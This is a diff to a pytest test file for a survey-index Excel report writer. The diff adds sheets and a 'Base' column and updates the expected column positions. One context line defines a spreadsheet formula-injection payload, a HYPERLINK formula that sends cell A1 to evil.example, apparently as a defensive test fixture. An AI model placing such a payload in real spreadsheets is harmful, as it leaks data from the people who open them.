@@ -18,8 +18,8 @@ import pytest
 from surveyindex.errors import ReportError
 from surveyindex.report import ReportTables, lead_sentences, write_workbook
 
-SHEETS = ["Summary", "Index", "Dimensions", "USA vs CHN", "Leads", "Items", "Reliability",
-          "Weighting", "Exclusions", "Methodology"]
+SHEETS = ["Summary", "Index", "Dimensions", "Profile", "USA vs CHN", "Leads", "Items", "Reliability",
+          "Weighting", "Bases", "Exclusions", "Methodology"]
 INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 DIMS = ["morality", "competence", "culture", "technology", "education"]
 
@@ -94,20 +94,20 @@ def test_sheets_in_order(book):
 def test_comparison_sheet_named_from_the_data(tmp_path):
     book = openpyxl.load_workbook(write_workbook(make_tables(targets=("RUS", "IND")),
                                                  tmp_path / "r.xlsx"))
-    assert book.sheetnames[3] == "RUS vs IND"
+    assert book.sheetnames[4] == "RUS vs IND"
     assert book["RUS vs IND"]["H1"].value == "RUS \u2212 IND"
 
 
 def test_headers_frozen_and_filtered(book):
     ws = book["Index"]
-    header = [c.value for c in ws[1][:11]]
+    header = [c.value for c in ws[1][:12]]
     assert header == ["Country", "Target", "Audience", "Score", "SE", "CI low", "CI high", "n",
-                      "Rank", "Rank low", "Rank high"]
+                      "Rank", "Rank low", "Rank high", "Base"]
     assert ws["A1"].font.b
     for name in SHEETS[1:]:
         assert book[name].freeze_panes == "A2", name
     # 5 countries x 2 targets x 2 audiences = 20 rows under the header
-    assert ws.auto_filter.ref == "A1:K21"
+    assert ws.auto_filter.ref == "A1:L21"
     assert "Extra column" not in header and "extra_column" not in header
 
 
@@ -144,16 +144,16 @@ def test_chart_with_error_bars(book):
     series = charts[0].series
     assert len(series) == 2  # one per target
     assert series[0].errBars.errValType == "cust"
-    # The chart block on Index (columns M-S): countries, then per target the score and the CI's
+    # The chart block on Index (columns N-T): countries, then per target the score and the CI's
     # distance below and above it; the fixture's CI is score - 2.94 to score + 3.5.
     ws = book["Index"]
-    assert [ws.cell(1, j).value for j in range(13, 17)] == ["Chart: country", "USA",
+    assert [ws.cell(1, j).value for j in range(14, 18)] == ["Chart: country", "USA",
                                                            "USA CI below", "USA CI above"]
-    assert ws["O2"].value == pytest.approx(2.94) and ws["P2"].value == pytest.approx(3.5)
-    assert series[0].errBars.minus.numRef.f == "'Index'!$O$2:$O$6"
-    assert series[0].errBars.plus.numRef.f == "'Index'!$P$2:$P$6"
+    assert ws["P2"].value == pytest.approx(2.94) and ws["Q2"].value == pytest.approx(3.5)
+    assert series[0].errBars.minus.numRef.f == "'Index'!$P$2:$P$6"
+    assert series[0].errBars.plus.numRef.f == "'Index'!$Q$2:$Q$6"
     # Countries ordered by the first target's score, highest first.
-    usa = [ws.cell(r, 14).value for r in range(2, 7)]
+    usa = [ws.cell(r, 15).value for r in range(2, 7)]
     assert usa == sorted(usa, reverse=True)
 
 
